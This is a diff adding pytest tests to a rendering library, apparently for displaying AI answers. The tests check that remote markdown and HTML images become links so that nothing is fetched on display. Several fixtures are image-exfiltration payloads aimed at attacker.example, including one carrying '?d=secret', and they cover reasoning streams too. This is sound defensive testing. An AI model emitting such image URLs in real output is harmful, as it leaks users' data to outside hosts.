@@ -2,10 +2,20 @@
 
 from __future__ import annotations
 
+import re
+
 import pytest
 
-from or_magics.render import AnswerInfo, Citation, MarkdownStreamer, ToolCallView, to_html
+from or_magics.render import (
+    AnswerInfo,
+    Citation,
+    MarkdownStreamer,
+    ToolCallView,
+    set_remote_images,
+    to_html,
+)
 from or_magics.render.mdsafe import markdown_safe
+from or_magics.render.sanitize import sanitize
 
 from .fakes import FakeClock, FakeSink
 from .safety import unsafe
@@ -136,3 +146,62 @@ def test_markdown_keeps_code_as_written_and_shows_the_rest_as_text():
     assert "`<b>`" in safe and "a &lt; b" in safe and "3&lt;4" in safe
     assert "```html\n<script>x()</script>\n```" in safe
     assert "[https://example.org/a](https://example.org/a)" in safe
+
+
+# -- remote images: shown as links, so displaying an answer fetches nothing ----------------
+
+REMOTE = [
+    "![x](http://attacker.example/?d=secret)",
+    "![x][r]\n\n[r]: https://attacker.example/ref.png",
+    "![x](//attacker.example/p.png)",
+    "[![x](https://attacker.example/p.png)](https://ok.example)",
+]
+
+
+def fetches(html: str) -> list[str]:
+    """URLs the browser would load on its own from this HTML (not links it may follow)."""
+    return re.findall(r"<img[^>]*\ssrc=\"(?!data:)([^\"]+)\"", html)
+
+
+@pytest.mark.parametrize("text", REMOTE)
+def test_remote_images_become_links(text: str) -> None:
+    html = to_html(text)
+    assert fetches(html) == []
+    if "//attacker.example/p.png)" not in text or "https:" in text:
+        assert 'href="http' in html and "attacker.example" in html  # shown, not loaded
+        assert 'rel="noopener noreferrer nofollow"' in html
+
+
+def test_remote_image_link_shows_text_and_url() -> None:
+    html = to_html("![the chart](https://attacker.example/c.png?d=1&e=2)")
+    assert "the chart" in html and "https://attacker.example/c.png?d=1&amp;e=2" in html
+
+
+def test_images_in_html_format_and_reasoning_are_links_too() -> None:
+    assert fetches(sanitize('<p>hi <img src="https://attacker.example/x.gif"></p>')) == []
+    assert fetches(sanitize("<img alt='a\"b>' src=http://attacker.example/y>")) == []
+    sink = FakeSink()
+    with MarkdownStreamer(sink, AnswerInfo()) as streamer:
+        streamer.feed_reasoning("thinking ![x](https://attacker.example/r.png)")
+        streamer.feed("answer")
+    assert fetches(sink.outputs[0]["text/html"]) == []
+    assert "attacker.example/r.png" in sink.outputs[0]["text/html"]
+
+
+def test_data_images_stay_and_remote_ones_can_be_allowed() -> None:
+    dot = "![dot](data:image/png;base64,iVBORw0KGgo=)"
+    assert 'src="data:image/png;base64,iVBORw0KGgo="' in to_html(dot)
+    remote = "![x](https://ok.example/p.png)"
+    assert fetches(to_html(remote, remote_images=True)) == ["https://ok.example/p.png"]
+    set_remote_images(True)
+    try:
+        assert fetches(to_html(remote)) == ["https://ok.example/p.png"]
+        assert "![x](https://ok.example/p.png)" in markdown_safe(remote)
+    finally:
+        set_remote_images(False)
+    assert fetches(to_html(remote)) == []
+
+
+@pytest.mark.parametrize("text", REMOTE)
+def test_markdown_part_has_no_remote_image_either(text: str) -> None:
+    assert "![" not in markdown_safe(text)
